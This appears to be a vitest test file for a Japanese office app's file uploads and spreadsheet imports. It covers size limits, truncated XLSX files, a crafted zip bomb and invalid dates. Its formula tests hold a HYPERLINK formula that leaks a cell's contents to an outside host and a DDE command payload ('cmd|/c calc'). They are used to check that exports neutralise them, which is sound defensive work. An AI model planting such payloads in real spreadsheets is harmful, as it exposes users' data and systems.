import { existsSync, readdirSync } from 'node:fs'
import { join } from 'node:path'
import { readTable, writeTableCsv, writeTableXlsx } from '@ennoshita/formats'
import { strToU8, zipSync } from 'fflate'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { workbookOf } from '../../libraries/formats/tables/xlsx/workbook-fixture.ts'
import { done } from './furnish.ts'
import { foundFirst, type Headers, jsonOf, openWholeProgram, type Program, writtenRows } from './program.ts'

let program: Program
let headers: Headers
beforeAll(async () => {
  program = await openWholeProgram()
  headers = (await foundFirst(program)).headers
})
afterAll(() => program.close())

const megabyte = 1_000_000

/** What the person reads when the browser cannot read the file they chose; nothing is sent then. */
function saidOf(bytes: Uint8Array, name: string): string | undefined {
  const { sheets, faults } = readTable(bytes, { name })
  expect(sheets).toEqual([])
  return faults[0]?.message
}

describe('a file that is no table says what to do, before anything is sent', () => {
  test.each([
    ['0 bytes', new Uint8Array(), '名簿.csv', 'ファイルが空です（0バイト）'],
    ['0 bytes called XLSX', new Uint8Array(), '名簿.xlsx', 'ファイルが空です（0バイト）'],
    ['60 MB', new Uint8Array(60 * megabyte), '名簿.csv', 'ファイルが大きすぎます（60 MB。20 MBまで）'],
    [
      '60 MB of XLSX',
      Uint8Array.from({ length: 60 * megabyte }, (_, at) => [0x50, 0x4b, 3, 4][at] ?? 0),
      '表.xlsx',
      'ファイルが大きすぎます',
    ],
    ['a text called XLSX', strToU8('氏名,社員番号'), '名簿.xlsx', '壊れています'],
    ['a ZIP of something else', zipSync({ 'a.txt': strToU8('a') }), '名簿.xlsx', 'Excelのブック（XLSX）ではありません'],
  ])('%s', (_, bytes, name, said) => {
    expect(saidOf(bytes, name)).toContain(said)
  })

  test('an XLSX cut off anywhere', async () => {
    const whole = await writeTableXlsx([{ name: '棚卸表', header: ['業務名'], rows: [['郵便'], ['来客']] }])
    for (const share of [0.1, 0.5, 0.9, 0.99]) {
      const cut = whole.slice(0, Math.floor(whole.length * share))
      expect(saidOf(cut, '棚卸表.xlsx'), `${share}`).toMatch(/壊れて|開け|読めません|保存し直して/)
    }
  })

  test('a bomb that would unpack to 4 GB, without unpacking it', () => {
    const bomb = zipSync({ 'xl/workbook.xml': new Uint8Array(2 * megabyte) })
    const view = new DataView(bomb.buffer, bomb.byteOffset, bomb.byteLength)
    const directory = view.getUint32(bomb.length - 6, true)
    view.setUint32(directory + 24, 4_000_000_000, true)
    expect(bomb.length).toBeLessThan(10_000)
    expect(saidOf(bomb, '棚卸表.xlsx')).toContain('大きすぎます（展開後200 MBまで）')
  })
})

describe('formulas', () => {
  const dangerous = `=HYPERLINK("http://example.jp/?"&A1,"明細")`

  test('in a file that comes in give the stored result, and are never computed', async () => {
    const cells = [
      '<c r="A1" t="inlineStr"><is><t>業務名</t></is></c><c r="B1" t="inlineStr"><is><t>所要時間</t></is></c>',
      '<c r="A2" t="str"><f>CONCATENATE("請求書","の発送")</f><v>請求書の発送</v></c><c r="B2"><f>10+20</f><v>45</v></c>',
    ]
    const rows = cells.map((each, at) => `<row r="${at + 1}">${each}</row>`).join('')
    const { sheets } = readTable(workbookOf({ sheets: { 棚卸表: `<sheetData>${rows}</sheetData>` } }), {
      name: '棚卸.xlsx',
    })
    expect(sheets[0]?.rows[1]).toEqual(['請求書の発送', '45'])
    const input = { fileName: '棚卸.xlsx', rows: sheets[0]?.rows }
    const { importId, ready } = await done(program, headers, 'work.stage-inventory-import', input)
    expect(ready).toBe(1)
    await done(program, headers, 'work.apply-inventory-import', { importId })
    const found = jsonOf(await program.look('work.inventory-rows', { text: '請求書の発送' }, headers))
    expect(found.rows).toMatchObject([{ name: '請求書の発送', usualMinutes: 45 }])
  })

  test('that a person typed go out as harmless text', async () => {
    await done(program, headers, 'work.add-kind', { name: dangerous, notes: '@SUM(1+1)*cmd|/c calc' })
    const { name, header, rows } = jsonOf(await program.look('work.kind-exports', {}, headers))
    const csv = new TextDecoder().decode(writeTableCsv([header, ...rows], { encoding: 'utf-8-bom' }))
    expect(csv).toContain(`"'=HYPERLINK(""http://example.jp/?""&A1,""明細"")"`)
    expect(csv).toContain(`'@SUM(1+1)*cmd|/c calc`)
    expect(csv).not.toMatch(/(^|,|\n)"?[=@]/)
    const xlsx = await writeTableXlsx([{ name, header, rows }])
    const read = readTable(xlsx, { name: '棚卸表.xlsx' }).sheets[0]?.rows ?? []
    expect(read.flat()).toContain(dangerous)
  })
})

describe('what is too large or empty over the network', () => {
  const upload = (bytes: Buffer) => {
    const head =
      '--edge\r\ncontent-disposition: form-data; name="file"; filename="a.csv"\r\ncontent-type: text/csv\r\n\r\n'
    const body = Buffer.concat([Buffer.from(head), bytes, Buffer.from('\r\n--edge--\r\n')])
    return program.ask('POST', '/api/files', body, { ...headers, 'content-type': 'multipart/form-data; boundary=edge' })
  }
  const storedFiles = async (): Promise<number> => {
    const found = await program.office.database.owner.query('select count(*)::int as n from kernel.file')
    return found.rows[0].n
  }
  const growing = () => {
    const folder = join(program.filesFolder, 'growing')
    return existsSync(folder) ? readdirSync(folder) : []
  }

  test('a file of 60 MB is refused with its limit, and leaves neither a row nor half a file', async () => {
    const before = await storedFiles()
    const answer = await upload(Buffer.alloc(60 * megabyte, 'a'))
    expect([answer.status, jsonOf(answer).error.code]).toEqual([413, 'kernel.too-large'])
    expect(jsonOf(answer).error.rule.says.ja).toContain('20 MB')
    expect([await storedFiles(), growing()]).toEqual([before, []])
  })

  test('a file of 21 MB, just over the limit, is refused as well', async () => {
    const before = await storedFiles()
    const answer = await upload(Buffer.alloc(21 * 1024 * 1024, 'a'))
    expect([answer.status, jsonOf(answer).error.code]).toEqual([413, 'kernel.too-large'])
    expect([await storedFiles(), growing()]).toEqual([before, []])
  })

  test('an upload without a file, or of 0 bytes, is refused', async () => {
    const before = await storedFiles()
    const none = await program.ask('POST', '/api/files', '--edge--\r\n', {
      ...headers,
      'content-type': 'multipart/form-data; boundary=edge',
    })
    expect([none.status, jsonOf(none).error.kind]).toEqual([400, 'bad-input'])
    const empty = await upload(Buffer.alloc(0))
    expect([empty.status, jsonOf(empty).error.code, jsonOf(empty).error.what.ja]).toEqual([
      400,
      'kernel.empty-file',
      'ファイルが空です（0バイト）。',
    ])
    const cut = await program.ask(
      'POST',
      '/api/files',
      '--edge\r\ncontent-disposition: form-data; name="file"; filename="a.csv"\r\n\r\nhalf',
      {
        ...headers,
        'content-type': 'multipart/form-data; boundary=edge',
      },
    )
    expect([cut.status, jsonOf(cut).error.kind]).toEqual([400, 'bad-input'])
    expect([await storedFiles(), growing()]).toEqual([before, []])
  })

  test('an input of 60 MB is refused by every command, and nothing is written', async () => {
    const before = await writtenRows(program.office)
    const body = JSON.stringify({ title: 'あ'.repeat(20 * megabyte) })
    for (const name of [
      'work.add-task',
      'work.stage-inventory-import',
      'people.stage-people-import',
      'desk.submit-request',
    ]) {
      const answer = await program.ask('POST', `/api/${name.replace('.', '/')}`, body, headers)
      expect([answer.status, jsonOf(answer).error.code], name).toEqual([413, 'kernel.too-large'])
    }
    expect(await writtenRows(program.office)).toEqual(before)
  })
})

describe('31 February in a file', () => {
  test('of people is named with its line and column; the other lines come in', async () => {
    const rows = [
      ['氏名', '社員番号', '入社日'],
      ['佐藤 次郎', '001', '2026/2/31'],
      ['伊藤 三郎', '002', '2026/2/28'],
    ]
    const { importId, counts } = await done(program, headers, 'people.stage-people-import', {
      fileName: '名簿.csv',
      fromOn: '2026-04-01',
      rows,
    })
    expect(counts).toMatchObject({ accepted: 1, faulty: 1 })
    const { lines } = jsonOf(await program.look('people.import-previews', { importId }, headers))
    const [faulty] = lines.filter((line: { state: string }) => line.state === 'faulty')
    expect(faulty).toMatchObject({
      line: 2,
      faults: [{ line: 2, column: 3, ja: expect.stringContaining('2026/2/31') }],
    })
  })

  test('and in a field that a template asks for', async () => {
    const field = { key: 'wish', label: '希望日', labelEn: 'wanted', takes: 'date' }
    const { templateId } = await done(program, headers, 'desk.add-template', {
      name: '休暇',
      nameEn: 'leave',
      fields: [field],
    })
    const input = { templateId, title: '休みます', values: { wish: '2026-02-31' } }
    const answer = await program.send('desk.submit-request', input, headers)
    expect([answer.status, jsonOf(answer).error.field]).toEqual([400, 'values.wish'])
  })
})
